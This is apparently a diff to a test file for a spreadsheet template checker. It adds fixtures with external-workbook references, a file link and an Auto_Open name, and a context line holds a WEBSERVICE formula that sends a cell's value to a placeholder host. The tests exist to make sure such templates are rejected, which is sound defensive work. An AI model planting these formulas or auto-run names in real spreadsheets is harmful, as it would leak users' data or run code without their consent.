@@ -46,6 +46,26 @@ def rule_that_fetches(_: Workbook, sheet: Worksheet) -> None:
     sheet.conditional_format("A1", {"type": "formula", "criteria": '=WEBSERVICE("http://x.test/"&A1)=1'})
 
 
+def rule_of_another_workbook(_: Workbook, sheet: Worksheet) -> None:
+    sheet.data_validation("B1", {"validate": "list", "source": r"='C:\[other.xlsx]Sheet1'!$A$1:$A$3"})
+
+
+def name_of_another_workbook(book: Workbook, _: Worksheet) -> None:
+    book.define_name("here", "=[1]Sheet1!$A$1")
+
+
+def link_to_a_file(_: Workbook, sheet: Worksheet) -> None:
+    sheet.write_url("B1", "external:c:/other.xlsx")
+
+
+def harmless(book: Workbook, sheet: Worksheet) -> None:
+    sheet.conditional_format("A1", {"type": "formula", "criteria": '=AND(ISNUMBER(A1),LEFT(B1,3)="[x]!")'})
+    sheet.data_validation("B1", {"validate": "list", "source": "=Report!$A$1:$A$3"})
+    sheet.write_url("C1", "https://example.org/")
+    sheet.write_url("C2", "internal:'Report'!A1")
+    book.define_name("here", "=Report!$A$1:$B$2")
+
+
 def field_in_a_text_box(_: Workbook, sheet: Worksheet) -> None:
     sheet.insert_textbox("C3", "As at {{ day }}")
 
@@ -163,6 +183,23 @@ BAD: dict[str, tuple[bytes, str]] = {
         a_template([], rule_that_fetches),
         ", sheet Report: has a rule that fetches something from elsewhere. Take it out.",
     ),
+    "a rule that reads another workbook": (
+        a_template([], rule_of_another_workbook),
+        ", sheet Report: has a rule that fetches something from elsewhere. Take it out.",
+    ),
+    "a name of another workbook": (
+        a_template([], name_of_another_workbook),
+        ', name "here": refers to something that is not in the workbook. Let it name cells, or delete it.',
+    ),
+    "a name that runs": (
+        rewritten(a_template([], harmless), replaced("xl/workbook.xml", b'name="here"', b'name="_xlnm.Auto_Open"')),
+        ', name "_xlnm.Auto_Open": runs when the workbook is opened. Delete it.',
+    ),
+    "a link to a file": (
+        a_template([], link_to_a_file),
+        ": has a link that leads to neither a web page nor an e-mail address. "
+        "Let it begin with https://, http:// or mailto:, or take it off.",
+    ),
     "a field in a text box": (
         a_template([], field_in_a_text_box),
         ", sheet Report: has a field in a text box or a chart, where none is filled. "
@@ -230,6 +267,10 @@ def test_each_fault_of_a_template_has_its_message(name: str, tmp_path: Path) -> 
     with pytest.raises(SpecificationError) as told:
         filled(content, tmp_path, FIELDS)
     assert str(told.value) == f"{PLACE}{message}"
+
+
+def test_rules_names_and_links_that_stay_inside_pass(tmp_path: Path) -> None:
+    filled(a_template([["{{ name }}"]], harmless), tmp_path, FIELDS)
 
 
 def test_a_template_that_is_not_there_has_its_message(tmp_path: Path) -> None:
